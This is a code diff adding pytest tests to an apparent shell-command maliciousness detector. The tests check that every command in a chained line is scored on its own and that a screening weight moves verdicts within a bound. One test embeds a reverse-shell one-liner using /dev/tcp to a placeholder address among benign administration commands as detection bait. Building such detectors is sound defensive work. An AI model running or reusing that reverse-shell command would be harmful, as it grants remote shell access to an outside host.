@@ -9,9 +9,12 @@ from pathlib import Path
 
 import pytest
 
+from analyzers.bert.canonical import canonical
+from analyzers.bert.commands import MOST
 from analyzers.bert.encoder import Encoder
-from analyzers.bert.judge import BENIGN, MAX_CHARACTERS, Refused, TextJudge, Verdict
+from analyzers.bert.judge import BENIGN, MAX_CHARACTERS, Refused, TextJudge, Verdict, place_of
 from analyzers.bert.manifest import BUILTIN_MODEL
+from analyzers.bert.screen import LOUDEST
 from state.verdicts import MAX_VALUE, VerdictStore
 
 TEXTS = [
@@ -118,6 +121,35 @@ def test_a_long_text_is_read_at_its_head_and_tail_and_in_bounded_time(encoder: E
     assert head.scores[place] > plain.scores[place] and tail.scores[place] > plain.scores[place]
     # Seconds, not the minutes that all of its windows would take.
     assert took < 30
+
+
+def test_each_command_of_a_line_is_judged_by_itself_too(changed: Callable[..., Path]) -> None:
+    """Else eight commands of administration hide the one between them."""
+    attack = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
+    around = ["cd /srv/app", "git pull --rebase", "make -j4 build", "tail -n 50 /var/log/app/build.log"]
+    line = " && ".join([*around, attack, *reversed(around)])
+    with_them, without = (TextJudge(Encoder.load(changed(commands=told)), size=0).encoder for told in (True, False))
+    form, lone = canonical(line, "shell"), canonical(attack, "shell")
+    told = [(form.text, place_of("shell"), form.features)]
+    ((read, whole),), ((less, _),) = with_them.read(told, 16), without.read(told, 16)
+    assert whole and len(less) == 1 and read[:1] == less
+    (((alone,), _),) = with_them.read([(lone.text, place_of("shell"), lone.features)], 16)
+    assert any(window.tokens == alone.tokens and window.features == alone.features for window in read[1:])
+    # As often as it stands there, a command is read once, and of very many only some.
+    many = "; ".join(["ls -la /tmp"] * 500 + [f"rm /tmp/{number}" for number in range(500)])
+    ((read, whole),) = with_them.read([(many, place_of("shell"), form.features)], 16)
+    assert not whole and len(read) == 16 + MOST
+
+
+def test_the_screen_moves_a_verdict_by_a_bounded_step(changed: Callable[..., Path]) -> None:
+    plain, heavy = (TextJudge(Encoder.load(changed(screen_weight=weight))) for weight in (0.0, 0.5))
+    assert plain.encoder.screened(["id"], [1]) == [0.0]
+    for text in ("id", "x" * 300, "/bin/sh" * 500):
+        (more,) = heavy.encoder.screened([text], [1])
+        assert more and abs(more) <= 0.5 * LOUDEST
+        (before,), (after,) = plain.judge([(text, "shell")]), heavy.judge([(text, "shell")])
+        assert isinstance(before, Verdict) and isinstance(after, Verdict)
+        assert (after.malicious - before.malicious) * more >= 0
 
 
 def test_windows_cover_a_text_that_fits_and_spread_over_one_that_does_not(encoder: Encoder) -> None:
